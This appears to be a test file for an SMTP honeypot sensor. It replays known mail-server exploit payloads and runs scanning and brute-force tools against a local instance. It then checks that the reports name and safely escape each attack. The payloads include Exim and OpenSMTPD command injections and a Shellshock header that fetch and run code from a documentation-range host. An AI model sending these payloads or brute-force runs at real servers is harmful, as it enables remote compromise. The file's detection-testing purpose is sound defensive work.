"""Attacks from outside, end to end: public exploit conversations over real sockets and real tools
(swaks, nmap's smtp scripts, hydra, medusa) against a running sensor; the report's Attacks section
names each, with what was sent, escaped for the terminal and the page."""

from __future__ import annotations

import json
import smtplib
import socket
import subprocess

import pytest

from support import fetch, relaypot, require

pytestmark = pytest.mark.slow  # nmap, hydra and medusa take their time

EXPLOITER = "127.0.0.21"
SMUGGLER = "127.0.0.22"
MAILER = "127.0.0.23"
QUITTER = "127.0.0.24"
TLS_CLIENT = "127.0.0.25"
# CVE-2019-10149 as in Qualys' advisory, with a terminal escape inside the payload: the report
# must show it, harmlessly.
EXIM_RCPT = "RCPT TO:<${run{\\x2Fbin\\x2Fsh\\t-c\\t\\x22wget\\x20http://198.51.100.7/x\x1b[2J\\x22}}@localhost>"


def talk(address: tuple[str, int], source: str, lines: list[bytes]) -> bytes:
    """Send each line after reading the reply to the one before, as the PoCs do."""
    with socket.create_connection(address, timeout=10, source_address=(source, 0)) as sock:
        sock.settimeout(5)
        got = sock.recv(4096)
        for line in lines:
            try:
                sock.sendall(line)
                got += sock.recv(65536)
            except TimeoutError:
                pass
            except ConnectionError:  # the persona hung up (Postfix does, on some input): as a PoC, stop
                break
        return got


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    from support import RunningSensor

    base = tmp_path_factory.mktemp("attacked")
    sensor = RunningSensor(base / "data", smtp__persona="postfix", limits__max_connections_per_ip=64)
    address = sensor.address
    try:
        talk(address, EXPLOITER, [b"EHLO x\r\n", b"MAIL FROM:<>\r\n", EXIM_RCPT.encode() + b"\r\n", b"QUIT\r\n"])
        talk(address, EXPLOITER, [b"HELO x\r\n", b"MAIL FROM:<;sleep 66;>\r\n", b"QUIT\r\n"])
        talk(address, SMUGGLER, [b"EHLO x\r\n", b"MAIL FROM:<a@example.org>\r\n", b"RCPT TO:<b@example.com>\r\n",
                                 b"DATA\r\n", b"Subject: s\r\n\r\nx\n.\nMAIL FROM:<admin@example.com>\r\n.\r\n",
                                 b"QUIT\r\n"])
        # Exim's CVE-2010-4344 payload in a message the attacker never finishes: kept, and named.
        talk(address, QUITTER, [b"EHLO x\r\n", b"MAIL FROM:<a@example.org>\r\n", b"RCPT TO:<b@example.com>\r\n",
                                b"DATA\r\n", b"X-Payload: ${run{/bin/sh -c 'id'}}\r\n\r\nunfinished"])
        with smtplib.SMTP(*address, timeout=10, source_address=(MAILER, 0)) as smtp:
            smtp.sendmail("a@example.org", ["b@example.com"],
                          "Subject: () { :; }; /bin/bash -c 'curl http://198.51.100.7/s|sh'\r\n\r\nhi\r\n")
        for _ in range(2):  # one bot, one fingerprint, two sessions
            with smtplib.SMTP(*address, timeout=10, source_address=(TLS_CLIENT, 0)) as smtp:
                smtp.starttls()
                smtp.ehlo("bot.example")
        host, port = sensor.host, str(sensor.port)
        run = {"capture_output": True, "text": True, "timeout": 180}
        swaks = subprocess.run([require("swaks"), "--server", host, "--port", port, "--to", "b@example.com",
                                "--from", "a@example.org"], **run)
        assert swaks.returncode == 0, swaks.stdout + swaks.stderr
        nmap = subprocess.run([require("nmap"), "-n", "-Pn", "-sV", "-p", port, "--script",
                               "smtp-commands,smtp-enum-users,smtp-open-relay", host], **run)
        assert nmap.returncode == 0, nmap.stderr
        words = base / "passwords.txt"
        words.write_text("123456\npassword\nletmein\n")
        hydra = subprocess.run([require("hydra"), "-l", "admin", "-P", str(words), "-s", port, "-t", "1", host,
                                "smtp"], **run)
        assert "1 of 1 target completed" in hydra.stdout, hydra.stdout + hydra.stderr
        medusa = subprocess.run([require("medusa"), "-h", host, "-n", port, "-u", "admin", "-P", str(words),
                                 "-M", "smtp"], **run)
        # medusa 2.2 tries SSLv3 on a STARTTLS the server offers, which OpenSSL 3 refuses: it gives up
        # after its EHLO, which is what names it.
        assert "Medusa v2" in medusa.stdout, medusa.stdout + medusa.stderr
        sensor.wait_for("smtp.attack", 8, timeout=30)
    finally:
        sensor.stop()
    return sensor


def test_the_report_names_each_attack_and_what_was_sent(attacked):
    result = relaypot("report", "--format", "json", "--data-dir", str(attacked.data_dir))
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    named = {a["attack"]: a for a in report["attacks"]["attacks"]}
    for attack in ("exim-cve-2019-10149", "opensmtpd-cve-2020-7247", "smtp-smuggling", "pipelined-transaction",
                   "shellshock", "tool-swaks", "tool-nmap", "tool-hydra", "tool-medusa", "relay-address-tricks"):
        assert attack in named, (attack, sorted(named))
    exim = named["exim-cve-2019-10149"]
    assert exim["class"] == "exploit" and exim["cves"] == ["CVE-2019-10149"] and exim["sources"] == 1
    assert "\x1b[2J" in exim["excerpts"][0]["text"] and exim["excerpts"][0]["place"] == "rcpt"
    assert report["attacks"]["attacks"][0]["class"] == "exploit"  # exploits first
    activity = {s["src_ip"]: s["activity"] for s in report["sources"]}
    assert activity[EXPLOITER] == "exploit" and activity[SMUGGLER] == "smuggling"
    kinds = [h["kind"] for h in report["highlights"]]
    assert "attack" in kinds
    assert any("CVE-2019-10149" in h["text"] for h in report["highlights"])


def test_a_message_the_attacker_hung_up_on_is_kept_and_named(attacked):
    [(what, reason, size, path)] = fetch(attacked.store_url, "SELECT what, reason, size, path FROM fragments "
                                                             f"WHERE src_ip = '{QUITTER}'")
    sent = b"X-Payload: ${run{/bin/sh -c 'id'}}\r\n\r\nunfinished"
    assert (what, reason, size) == ("message", "peer_closed", len(sent))
    assert (attacked.data_dir / path).read_bytes() == sent
    named = fetch(attacked.store_url, f"SELECT attack, place, session_id FROM attacks WHERE src_ip = '{QUITTER}'")
    assert ("exim-string-expansion", "header") in [row[:2] for row in named]
    replayed = relaypot("replay", named[0][2], "--data-dir", str(attacked.data_dir))
    assert replayed.returncode == 0, replayed.stderr
    assert "# attack exim-string-expansion (CVE-2010-4344), exploit, in header" in replayed.stdout
    assert f"C: <message left (peer_closed): {len(sent)} bytes, {len(sent)} kept" in replayed.stdout


def test_the_terminal_and_the_page_show_the_attacks_escaped(attacked, tmp_path):
    text = relaypot("report", "--data-dir", str(attacked.data_dir))
    assert text.returncode == 0, text.stderr
    section = text.stdout.split("\nAttacks\n")[1].split("\nActivity per")[0]
    assert "exim-cve-2019-10149" in section and "CVE-2019-10149" in section and "tool-hydra" in section
    assert "\x1b" not in text.stdout and "\\x1b[2J" in section  # the escape is shown, not obeyed
    page = tmp_path / "report.html"
    html = relaypot("report", "--html", str(page), "--data-dir", str(attacked.data_dir))
    assert html.returncode == 0, html.stderr
    body = page.read_text()
    attacks = body.split('<section id="attacks">')[1].split("</section>")[0]
    assert "Exim &#x27;Return of the WIZard&#x27;" in attacks or "Exim 'Return of the WIZard'" in attacks
    assert "\x1b" not in body and "${run{" in attacks


def test_exploit_indicators_export_as_csv_json_and_a_stix_bundle(attacked):
    import stix2

    data = ["--data-dir", str(attacked.data_dir)]
    lines = relaypot("export", "indicators", "--format", "jsonl", *data)
    assert lines.returncode == 0, lines.stderr
    rows = [json.loads(line) for line in lines.stdout.splitlines()]
    found = {(r["kind"], r["value"]): r for r in rows}
    url = found[("url", "http://198.51.100.7/x")]  # Exim's \x2F escapes decoded, as Exim would
    assert url["attacks"] == ["exim-cve-2019-10149"] and url["cves"] == ["CVE-2019-10149"]
    assert url["sources"] == [EXPLOITER] and url["sessions"] == 1
    assert ("ipv4", "198.51.100.7") in found and ("command", "sleep 66") in found  # OpenSMTPD's <;sleep 66;>
    assert ("url", "http://198.51.100.7/s") in found  # Shellshock's curl
    assert any(kind == "command" and "wget http://198.51.100.7/x" in value for kind, value in found)
    table = relaypot("export", "indicators", "--format", "csv", *data)
    assert table.stdout.splitlines()[0] == "kind,value,attacks,cves,sessions,sources,first_seen,last_seen"
    assert "\x1b" not in table.stdout and "\\x1b[2J" in table.stdout  # the escape shown, not obeyed
    bundle = stix2.parse(relaypot("export", "indicators", "--format", "stix", *data).stdout, allow_custom=False)
    kinds = {o.type for o in bundle.objects}
    assert {"indicator", "attack-pattern", "vulnerability", "relationship"} <= kinds
    patterns = {o.pattern for o in bundle.objects if o.type == "indicator"}
    assert "[url:value = 'http://198.51.100.7/x']" in patterns
    assert f"[ipv4-addr:value = '{EXPLOITER}']" in patterns  # the source, linked to what it sent
    exim = next(o for o in bundle.objects if o.type == "attack-pattern" and any(
        r.get("external_id") == "CVE-2019-10149" for r in o.external_references))
    indicates = {(r.source_ref, r.target_ref) for r in bundle.objects
                 if r.type == "relationship" and r.relationship_type == "indicates"}
    by_pattern = {o.pattern: o.id for o in bundle.objects if o.type == "indicator"}
    assert (by_pattern["[url:value = 'http://198.51.100.7/x']"], exim.id) in indicates
    assert (by_pattern[f"[ipv4-addr:value = '{EXPLOITER}']"], exim.id) in indicates
    refused = relaypot("export", "sessions", "--format", "stix", *data)
    assert refused.returncode != 0 and "for indicators only" in refused.stderr


def test_tls_clients_are_grouped_by_their_ja4(attacked):
    from relaypot.transport.clienthello import ClientHelloReader
    from support import client_hello

    reader = ClientHelloReader()  # what smtplib's STARTTLS sends to an address: no SNI
    reader.feed(client_hello(None))
    assert reader.hello is not None and reader.hello.ja4.startswith("t13i")
    tls = [r.event for r in attacked.records("smtp.tls") if r.src_ip == TLS_CLIENT]
    assert [(e.outcome, e.ja4, e.ja3) for e in tls] == [("established", reader.hello.ja4, reader.hello.ja3)] * 2
    report = json.loads(relaypot("report", "--format", "json", "--data-dir", str(attacked.data_dir)).stdout)
    [group] = [f for f in report["attacks"]["tls_fingerprints"] if f["ja4"] == reader.hello.ja4]
    assert {"src_ip": TLS_CLIENT, "sessions": 2} in group["busiest_sources"] and group["ja3"] == reader.hello.ja3
